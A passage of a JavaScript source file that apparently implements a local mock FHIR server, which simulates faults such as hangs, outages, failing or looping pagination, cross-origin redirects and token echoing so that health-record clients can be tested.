              return json(outcome('error', 'invalid', `${key}: a whole number 0..100000`), 400);
            const [id, type] = key.split('.');
            if (key === 'page-size' && n > 0) pageSize = n;
            else if (key === 'max-count' && n > 0) maxCount = n;
            else if (counts[id] && type in CLINICAL_TYPES) counts[id][/** @type {ClinicalType} */ (type)] = n;
            else return json(outcome('error', 'invalid', `unknown setting ${key}`), 400);
          }
          Object.assign(state, { counts, pageSize, maxCount, data: buildData(counts) });
          state.failCounts.clear();
          return json(configSummary());
        }
        default:
          return json(outcome('error', 'not-found', `no control endpoint ${method} ${url.pathname}`), 404);
      }
    }

    const match = /^\/([^/]+)\/fhir(\/.*)?$/.exec(url.pathname);
    const rawScenario = match?.[1] ?? '';
    const failVariant = /^fail-page-2x(\d+)$/.exec(rawScenario);
    const scenario = failVariant ? 'fail-page-2' : rawScenario;
    const rest = (match?.[2] ?? '/').replace(/\/+$/, '') || '/';
    const segments = rest.split('/').filter(Boolean);
    const type = segments[0] ?? '';
    const isClinicalSearch = method !== 'OPTIONS' && segments.length === 1 && type in CLINICAL_TYPES;
    const params = url.searchParams;
    const scoped = params.has('patient') || params.has('subject');

    /** @type {LoggedRequest} */
    const entry = { method, path: url.pathname, query, headers: { ...req.headers } };
    if (match) entry.scenario = rawScenario;
    if (isClinicalSearch && !scoped) entry.unscoped = true;
    state.logs[index].push(entry);

    if (method === 'OPTIONS') return preflight(req, res, cors);
    const documents = documentAnswer(url, origins[index], origins[1 - index], req);
    if (documents) return writeDocument(res, documents, cors);
    if (!match || !(/** @type {readonly string[]} */ (SCENARIOS).includes(scenario))) {
      return send(
        404,
        outcome(
          'error',
          'not-found',
          `Unknown path ${url.pathname}; use /<scenario>/fhir with a scenario of ${SCENARIOS.join(', ')}`,
        ),
      );
    }
    const scenarioHeader = { 'X-Fault-Scenario': rawScenario };

    // Scenarios that answer every request the same way, whatever it asks for.
    if (scenario === 'echo-token' || scenario === 'echo-token-401') {
      const pairs = [];
      const raw = req.rawHeaders;
      const auth = raw.findIndex((name, i) => i % 2 === 0 && name.toLowerCase() === 'authorization');
      if (auth >= 0) pairs.push(`${raw[auth]}: ${raw[auth + 1]}`);
      for (let i = 0; i < raw.length; i += 2) if (i !== auth) pairs.push(`${raw[i]}: ${raw[i + 1]}`);
      const authorization = req.headers.authorization ?? '(none)';
      return send(
        scenario === 'echo-token' ? 200 : 401,
        outcome(
          scenario === 'echo-token' ? 'information' : 'error',
          scenario === 'echo-token' ? 'informational' : 'login',
          `Received ${pairs.join('; ')}`,
          {
            details: { text: `Authorization was ${authorization}` },
          },
        ),
        scenario === 'echo-token'
          ? scenarioHeader
          : { ...scenarioHeader, 'WWW-Authenticate': 'Bearer realm="fhir"' },
      );
    }
    if (method !== 'GET' && method !== 'HEAD') {
      return send(405, outcome('error', 'not-supported', `${method} is not supported here`), {
        ...scenarioHeader,
        Allow: 'GET, HEAD, OPTIONS',
      });
    }
    if (scenario.startsWith('redirect-')) {
      const target = scenario === 'redirect-same-origin-302' ? origins[index] : origins[1 - index];
      const location = `${target}/ok/fhir${rest === '/' ? '' : rest}${url.search}`;
      const status = scenario === 'redirect-307' ? 307 : 302;
      return send(status, undefined, { ...scenarioHeader, Location: location });
    }
    const offset = Number(params.get('_offset') ?? 0);
    if (
      scenario === 'hang' ||
      (scenario === 'hang-search' && isClinicalSearch) ||
      (scenario === 'hang-page-2' && isClinicalSearch && offset > 0)
    ) {
      return; // never answer; the connection stays open until the client goes or close() is called
    }
    if (scenario === 'hang-body') {
      res.writeHead(200, {
        ...cors,
        ...scenarioHeader,
        'Content-Type': FHIR_JSON,
        'Cache-Control': 'no-store',
      });
      res.flushHeaders();
      return; // headers sent, the body never comes
    }
    if (scenario === 'outage' && state.outage) {
      return send(503, outcome('error', 'transient', 'The record server is unavailable (simulated outage)'), {
        ...scenarioHeader,
        'Retry-After': '0',
      });
    }
    if (scenario === 'latency') {
      const { min, max } = state.latency;
      const ms = min + state.random() * (max - min);
      if (ms > 0) await sleep(ms);
    }
    if (scenario === 'fail-page-2' && isClinicalSearch && offset > 0) {
      const limit = failVariant ? Number(failVariant[1]) : state.failTimes;
      const key = `${rawScenario} ${url.pathname}?${query}`;
      const asked = state.failCounts.get(key) ?? 0;
      state.failCounts.set(key, asked + 1);
      if (asked < limit) {
        return send(
          500,
          outcome(
            'error',
            'exception',
            `Simulated failure of page at _offset=${offset} (${asked + 1} of ${limit})`,
          ),
          scenarioHeader,
        );
      }
    }

    // The FHIR API itself.
    const base = `${origin}/${rawScenario}/fhir`;
    const noId = scenario === 'no-id';
    const stripId = (/** @type {Json} */ patient) => {
      const { id: _id, ...rest } = patient;
      return rest;
    };
    if (rest === '/metadata') return send(200, capabilityStatement(), scenarioHeader);
    if (segments.length === 2) {
      const resource = state.data.byRef.get(`${segments[0]}/${segments[1]}`);
      if (!resource)
        return send(
          404,
          outcome('error', 'not-found', `${segments[0]}/${segments[1]} is not known`),
          scenarioHeader,
        );
      return send(200, noId && type === 'Patient' ? stripId(resource) : resource, scenarioHeader);
    }
    if (segments.length === 1 && type === 'Patient') {
      const identifier = params.get('identifier');
      let patients = PATIENTS;
      if (identifier !== null) {
        const [system, value] = identifier.includes('|') ? identifier.split('|') : ['', identifier];
        patients = PATIENTS.filter((p) => (!system || system === NHS_NUMBER_SYSTEM) && p.nhsNumber === value);
      }
      const entries = patients.map((p) => {
        const resource = /** @type {Json} */ (state.data.byRef.get(`Patient/${p.id}`));
        return noId
          ? {
              fullUrl: `urn:uuid:00000000-0000-4000-8000-${String(PATIENTS.indexOf(p) + 1).padStart(12, '0')}`,
              resource: stripId(resource),
              search: { mode: 'match' },
            }
          : { fullUrl: `${base}/Patient/${p.id}`, resource, search: { mode: 'match' } };
      });
      return send(
        200,
        {
          resourceType: 'Bundle',
          type: 'searchset',
          total: entries.length,
          link: [{ relation: 'self', url: `${origin}${url.pathname}${url.search}` }],
          entry: entries,
        },
        scenarioHeader,
      );
    }
    if (!isClinicalSearch) {
      return send(404, outcome('error', 'not-found', `${rest} is not served here`), scenarioHeader);
    }

    // A search of a clinical type.
    const clinicalType = /** @type {ClinicalType} */ (type);
    const countParam = params.get('_count');
    const count = Math.min(countParam === null ? state.pageSize : Number(countParam), state.maxCount);
    if (!Number.isInteger(count) || count < 0 || !Number.isInteger(offset) || offset < 0) {
      return send(
        400,
        outcome('error', 'invalid', '_count and _offset must be whole numbers'),
        scenarioHeader,
      );
    }
    const self = `${origin}${url.pathname}${url.search}`;
    const wanted = [...params.getAll('patient'), ...params.getAll('subject')]
      .flatMap((v) => v.split(','))
      .map(patientIdOf);
    let matches =
      scoped && scenario !== 'ignore-patient'
        ? wanted.flatMap((id) => state.data.byType[clinicalType][id] ?? [])
        : state.data.all[clinicalType];
    const sort = params.get('_sort');
    if (sort) {
      const desc = sort.startsWith('-');
      const field = sort.replace(/^-/, '').split(',')[0];
      if (field === 'date' || field === '_lastUpdated') {
        const key = SORT_KEY[clinicalType];
        matches = [...matches].sort(
          (a, b) => (key(a) < key(b) ? -1 : key(a) > key(b) ? 1 : 0) * (desc ? -1 : 1),
        );
      }
    }

    if (scenario === 'endless-next') {
      const list = matches;
      const entries = [];
      if (list.length) {
        const resource = {
          ...list[offset % list.length],
          id: `${list[offset % list.length].id}-endless-${offset + 1}`,
        };
        entries.push({ fullUrl: `${base}/${type}/${resource.id}`, resource, search: { mode: 'match' } });
      }
      const next = `${origin}${url.pathname}?${[withoutOffset(query), `_offset=${offset + 1}`].filter(Boolean).join('&')}`;
      return send(
        200,
        {
          resourceType: 'Bundle',
          type: 'searchset',
          link: [
            { relation: 'self', url: self },
            { relation: 'next', url: next },
          ],
          entry: entries,
        },
        scenarioHeader,
      );
    }

    if (params.get('_summary') === 'count') {
      return send(
        200,
        {
          resourceType: 'Bundle',
          type: 'searchset',
          total: matches.length,
          link: [{ relation: 'self', url: self }],
        },
        scenarioHeader,
      );
    }
    const page = matches.slice(offset, offset + count);
    const entries = page.map((resource) => ({
      fullUrl: `${base}/${type}/${resource.id}`,
      resource,
      search: { mode: 'match' },
    }));
    const included = new Set();
    for (const include of params.getAll('_include')) {
      const follow = INCLUDES[/** @type {keyof typeof INCLUDES} */ (include)];
      if (!follow) continue;
      for (const resource of page) {
        for (const reference of follow(resource)) {
          const ref = reference?.reference;
          const target = ref && state.data.byRef.get(ref);
          if (!target || included.has(ref)) continue;
          included.add(ref);
          const shown = noId && target.resourceType === 'Patient' ? stripId(target) : target;
          entries.push({ fullUrl: `${base}/${ref}`, resource: shown, search: { mode: 'include' } });
        }
      }
    }
    const link = [{ relation: 'self', url: self }];
    const hasNext = count > 0 && offset + count < matches.length;
    if (scenario === 'loop-next') {
      const key = withoutOffset(query);
      if (offset === 0) state.firstPages.set(key, self);
      if (offset === 0 && hasNext) {
        link.push({
          relation: 'next',
          url: `${origin}${url.pathname}?${[key, `_offset=${count}`].filter(Boolean).join('&')}`,
        });
      } else if (offset > 0) {
        link.push({
          relation: 'next',
          url: state.firstPages.get(key) ?? `${origin}${url.pathname}${key ? `?${key}` : ''}`,
        });
      }
    } else if (hasNext) {
      link.push({
        relation: 'next',
        url: `${origin}${url.pathname}?${pageQuery(query, count, offset + count)}`,
      });
    }
    return send(
      200,
      { resourceType: 'Bundle', type: 'searchset', total: matches.length, link, entry: entries },
      scenarioHeader,
    );
  };

  const servers = [0, 1].map((index) =>
    createServer((req, res) => {
      handle(index, req, res).catch((error) => {
        if (!res.headersSent && !res.destroyed) {
          res.writeHead(500, { ...corsHeaders(req), 'Content-Type': FHIR_JSON });
          res.end(JSON.stringify(outcome('fatal', 'exception', String(error?.message ?? error))));
        }
      });
    }),
  );
  await Promise.all(
    servers.map(
      (server, index) =>
        new Promise((resolve, reject) => {
          server.once('error', reject);
          server.listen(index === 0 ? portA : portB, host, () => {
            server.off('error', reject);
            const address = /** @type {import('node:net').AddressInfo} */ (server.address());
            origins[index] = `http://${host.includes(':') ? `[${host}]` : host}:${address.port}`;
            resolve(undefined);
          });
        }),
    ),
  );

  let closing;
  return {
    originA: origins[0],
    originB: origins[1],
    close: () =>
      (closing ??= (async () => {
        for (const timer of timers) clearTimeout(timer);
        timers.clear();
        await Promise.all(
          servers.map(
            (server) =>
              new Promise((resolve) => {
                server.close(() => resolve(undefined));
                server.closeAllConnections();
              }),
          ),
        );
      })()),
  };
}

/**
 * Writes a `documentAnswer`: FHIR JSON, a text document, or a long text streamed in 64 KB chunks
 * until it is all sent or the client stops reading.
 * @param {ServerResponse} res @param {DocumentAnswer} answer @param {Record<string, string>} cors
 */
function writeDocument(res, answer, cors) {
  const type = answer.json !== undefined ? FHIR_JSON : 'text/plain; charset=utf-8';
  res.writeHead(answer.status, {
    ...cors,
    'Content-Type': type,
    'Cache-Control': 'no-store',
    ...answer.headers,
  });
  if (answer.stream === undefined) {
    res.end(answer.json !== undefined ? JSON.stringify(answer.json) : answer.text);
    return;
  }
  const chunk = Buffer.alloc(64 * 1024, 'Lorem ipsum dolor sit amet. ');
  let left = answer.stream;
  const pump = () => {
    while (left > 0 && !res.destroyed) {
      const part = chunk.subarray(0, Math.min(chunk.length, left));
      left -= part.length;
      if (!res.write(part)) return void res.once('drain', pump);
    }
    if (!res.destroyed) res.end();
  };
  pump();
}

/** @param {IncomingMessage} req @param {ServerResponse} res @param {Record<string, string>} cors */
function preflight(req, res, cors) {
  const asked = req.headers['access-control-request-headers'];
  res.writeHead(204, {
    ...cors,
    'Access-Control-Allow-Methods': ALLOWED_METHODS,
    'Access-Control-Allow-Headers': asked || 'Authorization, Content-Type, Accept, Prefer, X-Api-Key',
    'Access-Control-Max-Age': '600',
    'Content-Length': '0',
  });
  res.end();
}

// `node server/fault-server.js`: print both origins and run until killed.
if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const args = process.argv.slice(2);
  const option = (/** @type {string} */ name) => {
    const i = args.indexOf(name);
    return i >= 0 ? args[i + 1] : undefined;
  };
  const server = await startFaultServer({
    host: option('--host') ?? '127.0.0.1',
    portA: Number(option('--port-a') ?? 0),
    portB: Number(option('--port-b') ?? 0),
  });
  console.log(`Fault server origin A: ${server.originA}  (e.g. ${server.originA}/ok/fhir/Patient/alpha)`);
  console.log(`Fault server origin B: ${server.originB}`);
  console.log(`Scenarios: ${SCENARIOS.join(', ')}, fail-page-2x<N>`);
  const stop = () => server.close().then(() => process.exit(0));
  process.once('SIGINT', stop);
  process.once('SIGTERM', stop);
}
